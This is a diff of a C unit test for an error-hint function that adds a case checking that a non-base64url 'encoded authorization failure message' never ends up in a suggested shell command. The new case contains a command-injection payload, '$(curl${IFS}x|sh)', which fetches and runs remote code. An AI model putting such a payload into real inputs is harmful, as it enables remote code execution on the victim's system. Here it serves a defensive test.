@@ -110,6 +110,10 @@ static void test_fill_encoded_message(void **state)
                                      "AbC-12_x"));
     aws_error_fill(&err, 403, "UnauthorizedOperation", "You are not authorized.", "r");
     assert_null(strstr(err.hint, "decode"));
+    /* A token that is not base64url is never pasted into a shell command. */
+    aws_error_fill(&err, 403, "UnauthorizedOperation",
+                   "Encoded authorization failure message: $(curl${IFS}x|sh)", "r");
+    assert_null(strstr(err.hint, "curl"));
     assert_non_null(strstr(err.hint, "permission"));
     vpcx_error_finish(&err);
 }
